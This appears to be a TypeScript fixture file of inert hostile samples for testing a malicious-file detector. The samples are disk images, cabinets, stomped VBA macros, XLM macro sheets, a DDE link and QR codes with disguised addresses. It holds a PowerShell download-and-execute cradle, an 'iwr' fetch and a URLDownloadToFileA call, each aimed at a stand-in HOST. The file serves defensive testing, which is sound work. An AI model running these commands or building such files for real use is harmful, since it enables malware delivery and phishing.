/** Disk images, cabinets, macros whose two forms differ, binary workbooks, and QR codes, as attacks send them. All are inert. */

import { wordDocument } from '../../engines/office-fixture.ts';
import { cabinet, dynamicDisk, fatVolume, fixedDisk, partitioned } from '../../engines/static/image-fixture.ts';
import { qrPng } from '../../fixtures/build-codes.ts';
import { HOST, type HostileFile, PROGRAM } from './sample.ts';
import { documentOf } from './vba-fixture.ts';
import { binaryWorkbook, callToken, formulaCell, record, textToken, wide } from './xlsb-fixture.ts';

const script = Buffer.from(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('${HOST}/a')"`);
const code = await qrPng('https://account.example@198.51.100.7/verify');

export const DISKS_AND_CODES: readonly HostileFile[] = [
  {
    technique: 'virtual disk with a script, judged in turn',
    name: 'a.vhd',
    content: fixedDisk(partitioned(fatVolume({ 'ORDER.BAT': script }))),
    level: 'malicious',
    finds: ['disk-image-runs', 'code-downloads-and-runs'],
  },
  {
    technique: 'virtual disk that is a gigabyte when opened',
    name: 'b.vhd',
    content: dynamicDisk(partitioned(fatVolume({ 'SETUP.EXE': PROGRAM })), 1_000_000_000),
    level: 'suspicious',
    finds: ['disk-image', 'disk-image-runs'],
  },
  {
    technique: 'raw disk image with a program',
    name: 'c.img',
    content: fatVolume({ 'SCAN.SCR': PROGRAM }),
    level: 'suspicious',
    finds: ['disk-image-runs'],
  },
  {
    technique: 'cabinet: program with two extensions',
    name: 'd.cab',
    content: cabinet({ 'invoice.pdf.exe': PROGRAM }),
    level: 'malicious',
    finds: ['archive-executable', 'double-extension'],
  },
  {
    technique: 'macro: commands only in its compiled form',
    name: 'e.docm',
    content: documentOf({
      source: 'Sub Total()\r\nMsgBox "Total"\r\nEnd Sub\r\n',
      texts: ['Total', `powershell -c "iwr ${HOST}/a"`],
      names: ['Total', 'MsgBox', 'AutoOpen', 'Shell'],
    }),
    level: 'malicious',
    finds: ['vba-source-replaced', 'vba-source-differs'],
  },
  {
    technique: 'macro: names of another source in its compiled form',
    name: 'f.docm',
    content: documentOf({
      source: 'Sub Total()\r\nMsgBox "Total"\r\nEnd Sub\r\n',
      texts: ['Total'],
      names: ['Total', 'MsgBox', 'Document_Open', 'URLDownloadToFileA', 'VirtualAlloc'],
    }),
    level: 'suspicious',
    finds: ['vba-source-differs'],
  },
  {
    technique: 'macro: short compiled form over an emptied source',
    name: 'g.docm',
    content: documentOf({ source: '', texts: ['WScript.Shell', `${HOST}/a.exe`], names: ['AutoOpen', 'CreateObject'] }),
    level: 'malicious',
    finds: ['vba-stomped'],
  },
  {
    technique: 'binary workbook: hidden macro sheet that starts a program',
    name: 'h.xlsb',
    content: binaryWorkbook({
      isMacroSheet: true,
      isHidden: true,
      names: ['_xlnm.Auto_Open'],
      cells: [formulaCell(textToken('calc.exe'), callToken(110, 1))],
    }),
    level: 'malicious',
    finds: ['xlm-hidden-sheet', 'xlm-auto-run', 'xlm-acts-by-itself'],
  },
  {
    technique: 'binary workbook: macro sheet that calls a library',
    name: 'i.xlsb',
    content: binaryWorkbook({
      isMacroSheet: true,
      names: ['auto_open2'],
      cells: [
        formulaCell(...['urlmon', 'URLDownloadToFileA', 'JJCCJJ', `${HOST}/a.dll`].map(textToken), callToken(150, 4)),
      ],
    }),
    level: 'malicious',
    finds: ['xlm-dangerous-call', 'xlm-acts-by-itself'],
  },
  {
    technique: 'binary workbook: link that starts a program',
    name: 'j.xlsb',
    content: binaryWorkbook({
      link: Buffer.concat([
        record(360, Buffer.concat([Buffer.from([1, 0]), wide('cmd'), wide('/c echo inert')])),
        record(588),
      ]),
    }),
    level: 'malicious',
    finds: ['office-dde', 'dde-starts-program'],
  },
  {
    technique: 'picture with a code for a disguised address',
    name: 'k.png',
    content: code,
    level: 'suspicious',
    finds: ['picture-code-unsafe-link'],
  },
  {
    technique: 'document with a code for a disguised address',
    name: 'l.docx',
    content: wordDocument({
      body: '<w:p><w:r><w:t>Scan to keep your account</w:t></w:r></w:p>',
      relationships: [['image', 'media/image1.png', false]],
      parts: { 'word/media/image1.png': code },
    }),
    level: 'suspicious',
    finds: ['picture-code-unsafe-link'],
  },
];
